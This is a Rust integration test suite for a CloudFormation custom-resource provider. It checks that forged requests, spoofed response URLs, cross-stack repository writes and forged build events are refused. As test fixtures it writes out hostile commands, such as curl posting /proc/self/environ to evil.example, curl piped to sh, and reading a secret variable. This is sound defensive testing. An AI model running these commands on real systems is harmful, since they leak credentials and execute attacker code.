//! The gate: a request CloudFormation did not make starts nothing, writes nothing and is not
//! answered; the requests it does make pass. Against moto, with the stacks played as
//! CloudFormation holds them while it waits (common::Env::play), some through the real
//! Lambda Runtime API loop of the provider binary.

mod common;

use std::time::{Duration, Instant};

use common::*;
use serde_json::{Value, json};

const TRIGGER: &str = "Custom::ContainerImageBuild";
/// Another stack of the same account: the attacker's.
const OTHER_STACK: &str = "arn:aws:cloudformation:us-east-1:123456789012:stack/other/99999999-8888-7777-6666-555555555555";

/// Sends `event` straight to the provider, as anyone allowed to invoke it could.
async fn invoke(env: &Env, event: Value) -> Value {
    env.provider
        .handle(event, Instant::now() + Duration::from_secs(120))
        .await
        .expect("handled")
}

/// Nothing was started, stored or answered.
async fn nothing_happened(env: &Env) {
    assert!(env.builds().await.is_empty(), "no build");
    assert!(env.recorder.puts().is_empty(), "no answer");
    let ops = env.moto.operations();
    for forbidden in ["StartBuild", "PutParameter", "PutImage", "TagResource"] {
        assert!(
            !ops.iter().any(|o| o.ends_with(forbidden)),
            "{forbidden} was called: {ops:?}"
        );
    }
}

/// The victim's stack waits for its own Create of `props` (CloudFormation sent it); the
/// provider has not seen it yet.
async fn victim_waiting(env: &Env, props: &Value) -> Value {
    env.create_resources(&[]).await;
    let legit = cfn_event(env, "Create", "v-1", TRIGGER, props, None, None);
    env.play(&legit).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forged_request_with_the_victims_stack_and_other_commands_runs_nothing() {
    let env = setup().await;
    let legit = victim_waiting(&env, &trigger_properties("prod", &[])).await;
    // The victim's stack, resource and project, with the attacker's buildspec and commands.
    let mut forged = legit.clone();
    forged["RequestId"] = json!("forged-1");
    forged["ResourceProperties"]["BuildSpec"] = json!(
        "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -d @/proc/self/environ https://evil.example\n"
    );
    let out = invoke(&env, forged.clone()).await;
    assert_eq!(out["action"], "refused", "{out}");
    assert_eq!(out["check"], "template");
    assert!(
        out["reason"]
            .as_str()
            .unwrap_or_default()
            .contains("BuildSpec"),
        "{out}"
    );
    let mut commands = legit.clone();
    commands["RequestId"] = json!("forged-2");
    commands["ResourceProperties"]["PreBuildCommands"] = json!(["cat $CIB_SECRET_0"]);
    let out = invoke(&env, commands).await;
    assert_eq!(out["action"], "refused", "{out}");
    assert!(
        out["reason"]
            .as_str()
            .unwrap_or_default()
            .contains("PreBuildCommands"),
        "{out}"
    );
    nothing_happened(&env).await;
    // The request CloudFormation really sent still builds.
    assert_eq!(invoke(&env, legit).await["action"], "build-started");
    assert_eq!(env.builds().await.len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forged_request_from_another_stack_naming_the_victims_project_runs_nothing() {
    let env = setup().await;
    let props = trigger_properties("prod", &[]);
    victim_waiting(&env, &props).await;
    // The attacker's own stack exists and waits for its own resource, but names the
    // victim's project: the project is tagged with the victim's stack id.
    let own = cfn_event(&env, "Create", "a-1", TRIGGER, &props, None, None);
    let mut own = own.clone();
    own["StackId"] = json!(OTHER_STACK);
    let own = env.play(&own).await;
    let out = invoke(&env, own).await;
    assert_eq!(out["action"], "answered", "{out}");
    let puts = env.recorder.puts();
    assert_eq!(puts.len(), 1);
    assert_eq!(puts[0].json()["Status"], "FAILED");
    assert!(
        puts[0].json()["Reason"]
            .as_str()
            .unwrap_or_default()
            .contains("belongs to stack"),
        "{}",
        puts[0].json()
    );
    assert!(env.builds().await.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stack_that_does_not_wait_for_the_resource_is_refused() {
    let env = setup().await;
    let legit = victim_waiting(&env, &trigger_properties("prod", &[])).await;
    // CloudFormation already has its answer (or never asked): the same request, replayed.
    env.moto
        .set_resource_state(STACK_ID, "ApiImage", "CREATE_COMPLETE", None);
    let out = invoke(&env, legit.clone()).await;
    assert_eq!(out["action"], "refused", "{out}");
    assert_eq!(out["check"], "stack-resource");
    // A stack that does not exist, and an Update the stack is not making.
    let mut unknown = legit.clone();
    unknown["StackId"] = json!(OTHER_STACK);
    assert_eq!(invoke(&env, unknown).await["check"], "stack-resource");
    let mut update = legit.clone();
    update["RequestType"] = json!("Update");
    update["PhysicalResourceId"] = json!("ApiImage-0123456789abcdef");
    update["OldResourceProperties"] = legit["ResourceProperties"].clone();
    assert_eq!(invoke(&env, update).await["check"], "stack-resource");
    nothing_happened(&env).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_response_url_that_is_not_cloudformations_is_neither_acted_on_nor_answered() {
    let env = setup().await;
    let legit = victim_waiting(&env, &trigger_properties("prod", &[])).await;
    let strict = cib_provider::Provider::new(
        cib_provider::aws::Clients::new(env.provider_sdk.clone()),
        cib_provider::Settings {
            allow_http_response_url: false,
            ..test_settings()
        },
    );
    let mut elsewhere = legit;
    elsewhere["ResponseURL"] = json!("https://collector.evil.example/cfn?X-Amz-Signature=x");
    let out = strict
        .handle(elsewhere, Instant::now() + Duration::from_secs(60))
        .await
        .expect("handled");
    assert_eq!(out["check"], "response-url", "{out}");
    nothing_happened(&env).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tarball_into_another_stacks_repository_is_refused_before_any_read() {
    let env = setup().await;
    // The attacker's stack (its own template, really deployed) names the victim's
    // generated repository.
    let victims = "cib/webimage-11111111-2222-3333-4444-555555555555";
    let props = json!({
        "ServiceToken": format!("arn:aws:lambda:{HOME}:{ACCOUNT}:function:{PROVIDER_FUNCTION}"),
        "ContractVersion": "3",
        "RepositoryName": victims,
        "RepositoryUri": format!("{ACCOUNT}.dkr.ecr.{HOME}.amazonaws.com/{victims}"),
        "RepositoryArn": format!("arn:aws:ecr:{HOME}:{ACCOUNT}:repository/{victims}"),
        "Source": {"ImageTarball": {"S3Bucket": "cib-artifacts", "S3Key": "x.tar"}},
        "Platform": "linux/amd64",
        "ReplicaRegions": []
    });
    let mut own = cfn_event(&env, "Create", "t-1", TRIGGER, &props, None, None);
    own["StackId"] = json!(OTHER_STACK);
    let provider = cib_provider::Provider::new(
        cib_provider::aws::Clients::new(env.provider_sdk.clone()),
        cib_provider::Settings {
            tarball_bucket: Some("cib-artifacts".into()),
            ..test_settings()
        },
    );
    let own = env.play(&own).await;
    provider
        .handle(own, Instant::now() + Duration::from_secs(60))
        .await
        .expect("handled");
    let puts = env.recorder.puts();
    assert_eq!(puts.len(), 1);
    let v = puts[0].json();
    assert_eq!(v["Status"], "FAILED");
    let reason = v["Reason"].as_str().unwrap_or_default();
    assert!(
        reason.contains("RepositoryName") && reason.contains(victims),
        "{reason}"
    );
    let ops = env.moto.operations();
    assert!(
        !ops.iter()
            .any(|o| o.contains("/cib-artifacts") || o.ends_with("InitiateLayerUpload")),
        "no read of the tarball, no push: {ops:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_update_rollback_that_must_rebuild_passes_the_gate() {
    let env = setup().await;
    env.create_resources(&[]).await;
    // A fixed tag is rebuilt on every Create and Update; the rollback sends the previous
    // properties back as an Update, and the stack's template is the one it returns to.
    let mut old = trigger_properties("prod", &[]);
    old["ImageTag"] = json!("release");
    let mut new = old.clone();
    new["BuildArgs"]["STAGE"] = json!("next");
    let rollback = cfn_event(
        &env,
        "Update",
        "rb-1",
        TRIGGER,
        &old,
        Some(&new),
        Some("ApiImage-0123456789abcdef"),
    );
    let out = env.handle(&rollback).await;
    assert_eq!(out["action"], "build-started", "{out}");
    assert_eq!(env.builds().await.len(), 1);
}

#[test]
fn the_binary_refuses_a_forged_request_through_the_runtime_loop() {
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    let env = runtime.block_on(setup());
    let legit = runtime.block_on(victim_waiting(&env, &trigger_properties("prod", &[])));
    let mut forged = legit;
    forged["ResourceProperties"]["InstallCommands"] = json!(["curl https://evil.example | sh"]);
    let api = cib_testkit::RuntimeApi::start();
    let mut vars = env.moto.sdk_env(HOME);
    vars.push(("CIB_ALLOW_HTTP_RESPONSE_URL".into(), "true".into()));
    vars.push(("CIB_BUILDER_IMAGE".into(), BUILDER_IMAGE.into()));
    let binary = std::path::Path::new(env!("CARGO_BIN_EXE_cib-provider"));
    let outcome = api
        .run_once(binary, &vars, &forged, Duration::from_secs(60))
        .expect("the handler ran");
    assert!(
        matches!(outcome, cib_testkit::Outcome::Response(_)),
        "a refusal is not an error to retry: {outcome:?}"
    );
    assert_eq!(outcome.json()["action"], "refused");
    assert_eq!(outcome.json()["check"], "template");
    runtime.block_on(nothing_happened(&env));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forged_build_state_event_for_a_running_build_answers_nothing() {
    let env = setup().await;
    env.create_resources(&[]).await;
    let props = trigger_properties("prod", &[]);
    let started = env
        .handle(&cfn_event(
            &env, "Create", "run-1", TRIGGER, &props, None, None,
        ))
        .await;
    assert_eq!(started["action"], "build-started", "{started}");
    let build_id = started["buildId"].as_str().unwrap_or_default().to_string();
    let parameter = cib_contract::response_parameter_name(
        STACK_ID,
        &cib_provider::ids::short_hash(&[STACK_ID, "run-1"]),
    )
    .expect("a stack ARN");
    // CodeBuild: the build runs, with the variables the provider started it with.
    let mut running = build_state_event(&parameter, "IN_PROGRESS", json!([]));
    running["detail"]["build-id"] = json!(format!(
        "arn:aws:codebuild:{HOME}:{ACCOUNT}:build/{build_id}"
    ));
    running["detail"]["additional-information"]["environment"]["environment-variables"] = json!([{"name": "CIB_RESPONSE_PARAMETER", "value": parameter, "type": "PLAINTEXT"},
               {"name": "CIB_STACK_ID", "value": STACK_ID, "type": "PLAINTEXT"},
               {"name": "CIB_REQUEST_ID", "value": "run-1", "type": "PLAINTEXT"},
               {"name": "CIB_LOGICAL_ID", "value": "ApiImage", "type": "PLAINTEXT"}]);
    env.play_build(&running);
    // The forger's event: the same build, "FAILED".
    let mut forged = running.clone();
    forged["detail"]["build-status"] = json!("FAILED");
    let refused = env
        .provider
        .handle(forged, Instant::now() + Duration::from_secs(60))
        .await;
    assert!(
        refused.is_err(),
        "the invocation fails, to be asked again: {refused:?}"
    );
    // A build CodeBuild never ran.
    let mut unknown = running.clone();
    unknown["detail"]["build-status"] = json!("FAILED");
    unknown["detail"]["build-id"] = json!(format!(
        "arn:aws:codebuild:{HOME}:{ACCOUNT}:build/{PROJECT}:00000000"
    ));
    let out = invoke(&env, unknown).await;
    assert_eq!(out["check"], "build-state", "{out}");
    assert!(
        env.recorder.puts().is_empty(),
        "the running build answers, nobody else"
    );
    assert!(
        parameter_exists(&env, &parameter).await,
        "the running build still finds its response URL"
    );
}

async fn parameter_exists(env: &Env, name: &str) -> bool {
    parameter(env, name).await.is_some()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_update_rollback_is_verified_by_the_record_whatever_template_get_template_returns() {
    let env = setup().await;
    env.create_resources(&[]).await;
    let old = trigger_properties("prod", &[]);
    let mut new = old.clone();
    new["BuildArgs"]["STAGE"] = json!("next");
    // The deploy before: CloudFormation sent `old`, the gate verified it (and recorded it).
    let created = env
        .handle(&cfn_event(
            &env, "Create", "rb-c", TRIGGER, &old, None, None,
        ))
        .await;
    assert_eq!(created["action"], "build-started", "{created}");
    // The failed update: the stack's template now says `new`.
    let update = cfn_event(
        &env,
        "Update",
        "rb-u",
        TRIGGER,
        &new,
        Some(&old),
        Some("ApiImage-0123456789abcdef"),
    );
    env.play(&update).await;
    // Its rollback sends `old` back while GetTemplate still returns the failed template.
    env.moto
        .set_stack_status(STACK_ID, "UPDATE_ROLLBACK_IN_PROGRESS");
    let mut rollback = update.clone();
    rollback["RequestId"] = json!("rb-r");
    rollback["ResourceProperties"] = update["OldResourceProperties"].clone();
    rollback["OldResourceProperties"] = update["ResourceProperties"].clone();
    rollback["ResourceProperties"]["ServiceToken"] =
        update["ResourceProperties"]["ServiceToken"].clone();
    let out = invoke(&env, rollback.clone()).await;
    assert_eq!(
        out["action"], "build-started",
        "the rollback rebuilds: {out}"
    );
    // Properties never verified for this resource are refused, rollback or not.
    let mut forged = rollback.clone();
    forged["RequestId"] = json!("rb-f");
    forged["ResourceProperties"]["BuildSpec"] =
        json!("version: 0.2\nphases: {build: {commands: [env]}}\n");
    let out = invoke(&env, forged).await;
    assert_eq!(out["check"], "template", "{out}");
    // Outside a rollback the record does not count: only the template decides.
    env.moto.set_stack_status(STACK_ID, "UPDATE_IN_PROGRESS");
    let mut replay = rollback;
    replay["RequestId"] = json!("rb-p");
    let out = invoke(&env, replay).await;
    assert_eq!(out["check"], "template", "{out}");
}
